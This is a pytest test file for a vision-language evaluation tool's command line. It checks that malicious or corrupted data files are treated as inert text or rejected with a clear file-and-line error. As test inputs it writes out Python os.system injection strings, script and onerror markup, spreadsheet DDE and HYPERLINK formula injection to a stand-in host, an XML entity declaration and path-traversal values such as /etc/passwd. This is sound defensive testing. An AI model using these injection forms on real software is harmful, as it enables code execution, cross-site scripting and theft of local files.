"""Data files that mean harm or were spoiled, one at a time over the command line: inert, or an error with file and row.

An error of one task leaves the other tasks of the same command, and what was computed before, as they are.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.data.made import b64, png, question, write_tsv
from vlmeval.cli.main import run

Vlmeval = Callable[..., tuple[int, str, str]]
Row = dict[str, Any]

FIRST = """
class First:
    concurrency = 2

    def generate(self, requests):
        return ["A" for request in requests]
"""


@pytest.fixture
def vlmeval(capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Vlmeval:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("LMUData", str(tmp_path / "LMUData"))
    (tmp_path / "first.py").write_text(FIRST)

    def call(*arguments: object) -> tuple[int, str, str]:
        with pytest.raises(SystemExit) as ended:
            run([str(argument) for argument in arguments])
        said = capsys.readouterr()
        return int(ended.value.code or 0), said.out, said.err

    return call


def plain(number: int, **more: Any) -> Row:
    return {**question(number, ["red", "green", "blue", "grey"]), **more}


def tsv(path: Path, rows: Sequence[Mapping[str, Any]]) -> Path:
    return write_tsv(path, list(dict.fromkeys(name for row in rows for name in row)), rows)


def evaluate(vlmeval: Vlmeval, data: Path, *more: object, task: str = "mmstar") -> tuple[int, str, str]:
    """Run a good task and the hostile one in one command."""
    good = tsv(data.parent / "good.tsv", [plain(1), plain(2)])
    named = ("--data", f"ai2d={good}", "--data", f"{task}={data}")
    return vlmeval("run", "--model", "first.py:First", "--tasks", f"ai2d,{task}", *named, "--quiet", *more)


def scores(root: Path, task: str = "mmstar") -> dict[str, float]:
    (path,) = (root / "results" / task).glob("*/*/scores.json")
    return {one["metric"]: one["value"] for one in json.loads(path.read_bytes())["estimates"] if not one["slice"]}


def samples(root: Path, task: str = "mmstar") -> list[Row]:
    (path,) = (root / "results" / task).glob("*/*/samples.jsonl")
    return [json.loads(line) for line in path.read_text("utf8").splitlines()]


@pytest.mark.parametrize("column", ["question", "A", "hint", "category", "index"])
def test_code_in_a_cell_is_a_text(vlmeval: Vlmeval, tmp_path: Path, column: str) -> None:
    code = f"__import__('os').system('touch {tmp_path / 'harm'}')"
    status, _, err = evaluate(vlmeval, tsv(tmp_path / "h.tsv", [plain(1, **{column: code}), plain(2)]))
    assert status == 0, err
    assert scores(tmp_path) == {"accuracy": 1.0}
    assert not (tmp_path / "harm").exists()
    pages = "".join(path.read_text("utf8") for path in (tmp_path / "reports").rglob("*.html"))
    assert "<script>alert" not in pages


@pytest.mark.parametrize("task", ["mmstar", "ocrbench", "mmmu_pro_standard4", "vqav2_val"])
def test_code_as_the_gold_is_never_run(vlmeval: Vlmeval, tmp_path: Path, task: str) -> None:
    codes = [
        f"__import__('os').system('touch {tmp_path / 'harm'}')",
        f"[__import__('os').system('touch {tmp_path / 'harm'}')]",
    ]
    for number, code in enumerate(codes):
        more = {
            "answer": code,
            "answers": code,
            "options": code,
            "question_id": 1,
            "category": "Regular Text Recognition",
        }
        row = {**plain(1), **more, "image_1": b64(png())}
        if task == "mmmu_pro_standard4":
            row = {name: cell for name, cell in row.items() if len(name) > 1}
        status, _, err = evaluate(vlmeval, tsv(tmp_path / f"h{number}.tsv", [row]), "--no-report", task=task)
        assert not (tmp_path / "harm").exists()
        if status:
            assert (status, f"h{number}.tsv, line 2" in err) == (2, True), err
    assert scores(tmp_path, "ai2d") == {"accuracy": 1.0}


def test_markup_and_controls_in_cells_reach_no_page_as_markup(vlmeval: Vlmeval, tmp_path: Path) -> None:
    evil = "<script>alert(1)</script><img src=x onerror=alert(2)>\u202e\x07"
    data = tsv(tmp_path / "h.tsv", [plain(1, question=evil, A=evil, category=evil), plain(2)])
    status, _, err = evaluate(vlmeval, data, "--slice", "category")
    assert status == 0, err
    pages = [path.read_text("utf8") for path in (tmp_path / "reports").rglob("*.html")]
    assert pages
    assert not any("<script>alert" in page or "<img src=x" in page for page in pages)


def test_formulas_of_a_spreadsheet_are_texts(vlmeval: Vlmeval, tmp_path: Path) -> None:
    (tmp_path / "p.png").write_bytes(png())
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(["index", "question", "image_path", "A", "B", "answer"])
    book.active.append([1, '=HYPERLINK("http://x.example/"&A1)', "p.png", "=1+1", "=cmd|'/c calc'!A1", "A"])
    book.save(tmp_path / "h.xlsx")
    status, _, err = evaluate(vlmeval, tmp_path / "h.xlsx", "--no-report")
    assert status == 0, err
    text = json.dumps(samples(tmp_path)[0], ensure_ascii=False)
    assert "=1+1" in text
    assert "=cmd|" in text


def test_a_spreadsheet_that_swells_or_is_none_is_an_error_with_its_name(vlmeval: Vlmeval, tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "h.xlsx", "w") as archive:
        archive.writestr("xl/workbook.xml", "<!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>")
    status, _, err = evaluate(vlmeval, tmp_path / "h.xlsx", "--no-report")
    assert (status, "h.xlsx" in err) == (2, True)
    assert "Traceback" not in err
    assert scores(tmp_path, "ai2d") == {"accuracy": 1.0}


@pytest.mark.parametrize("nothing", ["", "nan", "NaN"])
def test_an_empty_gold_is_an_error_with_its_line_and_the_other_task_is_scored(
    vlmeval: Vlmeval, tmp_path: Path, nothing: str
) -> None:
    status, out, err = evaluate(vlmeval, tsv(tmp_path / "h.tsv", [plain(1), plain(2, answer=nothing)]), "--no-report")
    assert status == 2
    assert 'h.tsv, line 3, column "answer": the cell is empty' in err
    assert "ai2d" in out
    assert scores(tmp_path, "ai2d") == {"accuracy": 1.0}


@pytest.mark.parametrize("column", ["question", "image"])
def test_an_empty_question_or_image_is_an_error_with_its_line(vlmeval: Vlmeval, tmp_path: Path, column: str) -> None:
    status, _, err = evaluate(vlmeval, tsv(tmp_path / "h.tsv", [plain(1), plain(2, **{column: "nan"})]), "--no-report")
    assert (status, f'h.tsv, line 3, column "{column}": the cell is empty' in err) == (2, True)


def test_words_for_nothing_are_options_and_gaps_between_options_an_error(vlmeval: Vlmeval, tmp_path: Path) -> None:
    data = tsv(tmp_path / "h.tsv", [plain(1, A="None", B="NA", C="null", D="N/A")])
    assert evaluate(vlmeval, data, "--no-report")[0] == 0
    text = json.dumps(samples(tmp_path)[0])
    assert all(word in text for word in ("None", "NA", "null", "N/A"))
    status, _, err = evaluate(vlmeval, tsv(tmp_path / "g.tsv", [plain(1, B="")]), "--no-report")
    assert (status, 'g.tsv, line 2, column "B": the option is absent' in err) == (2, True)


def test_ten_megabytes_in_a_cell_are_asked_and_shown_short(vlmeval: Vlmeval, tmp_path: Path) -> None:
    data = tsv(tmp_path / "h.tsv", [plain(1, question="x" * 10_000_000), plain(2)])
    status, _, err = evaluate(vlmeval, data)
    assert status == 0, err
    assert scores(tmp_path) == {"accuracy": 1.0}
    wrong = tsv(tmp_path / "w.tsv", [plain(1, answer="y" * 10_000_000), plain(2)])
    status, _, err = evaluate(vlmeval, wrong, "--no-report")
    assert status == 2
    assert "w.tsv, line 2" in err
    assert len(err) < 2000


def test_options_with_line_breaks_and_letters_keep_their_places(vlmeval: Vlmeval, tmp_path: Path) -> None:
    options = {"A": "first\nB. second", "B": "A", "C": "(D) none\tof these", "D": "B"}
    status, _, err = evaluate(vlmeval, tsv(tmp_path / "h.tsv", [plain(1, **options)]), "--no-report")
    assert status == 0, err
    assert scores(tmp_path) == {"accuracy": 1.0}


def test_options_worded_alike_stay_two_options(vlmeval: Vlmeval, tmp_path: Path) -> None:
    data = tsv(tmp_path / "h.tsv", [plain(1, A="red", B="red"), plain(2, A="blue", C="blue", answer="C")])
    status, _, err = evaluate(vlmeval, data, "--no-report")
    assert status == 0, err
    assert scores(tmp_path) == {"accuracy": 0.5}
    twice = tsv(tmp_path / "t.tsv", [plain(1, A="red", B="red", answer="red")])
    status, _, err = evaluate(vlmeval, twice, "--no-report")
    assert (status, 't.tsv, line 2, column "answer": the gold "red" is none of' in err) == (2, True)


def test_a_test_split_without_gold_is_asked_and_its_answers_are_kept(vlmeval: Vlmeval, tmp_path: Path) -> None:
    rows = [{name: cell for name, cell in plain(number).items() if name != "answer"} for number in (1, 2)]
    status, _, err = evaluate(vlmeval, tsv(tmp_path / "h.tsv", rows), "--no-report", task="mmbench_test_en")
    assert status in (0, 1), err
    (journal,) = (tmp_path / "results" / "mmbench_test_en").glob("*/*/outputs.jsonl")
    assert len(journal.read_text("utf8").splitlines()) == 8
    assert scores(tmp_path, "mmbench_test_en") == {}


@pytest.mark.parametrize(
    ("spoil", "said"),
    [
        (lambda text: text[: len(text) // 2], "cells, but the header has"),
        (lambda text: text.replace(b"\t", b",", 1), "h.tsv"),
        (lambda text: b"\xff\xfe" + text, "UTF-16"),
        (lambda text: text.replace(b"Question 2", b"Question \xff\xfe"), "not UTF-8"),
        (lambda text: b"", "the file is empty"),
    ],
)
def test_a_spoiled_file_is_an_error_with_its_name_and_what_was_scored_stays(
    vlmeval: Vlmeval, tmp_path: Path, spoil: Callable[[bytes], bytes], said: str
) -> None:
    data = tsv(tmp_path / "h.tsv", [plain(1), plain(2), plain(3)])
    assert evaluate(vlmeval, data, "--no-report")[0] == 0
    before = samples(tmp_path)
    data.write_bytes(spoil(data.read_bytes()))
    status, _, err = evaluate(vlmeval, data, "--no-report")
    assert status == 2
    assert "h.tsv" in err
    assert said in err
    assert "Traceback" not in err
    assert samples(tmp_path) == before


@pytest.mark.parametrize("path", ["../secret.png", "/etc/passwd", "a\0b.png", "x" * 5000])
def test_a_path_that_leads_away_is_refused(vlmeval: Vlmeval, tmp_path: Path, path: str) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "secret.png").write_bytes(png())
    lines = [json.dumps({**plain(1), "image": path})]
    (tmp_path / "data" / "h.jsonl").write_text("\n".join(lines), "utf8")
    status, _, err = evaluate(vlmeval, tmp_path / "data" / "h.jsonl", "--no-report")
    assert status == 2
    assert "h.jsonl, line 1" in err
    assert "Traceback" not in err
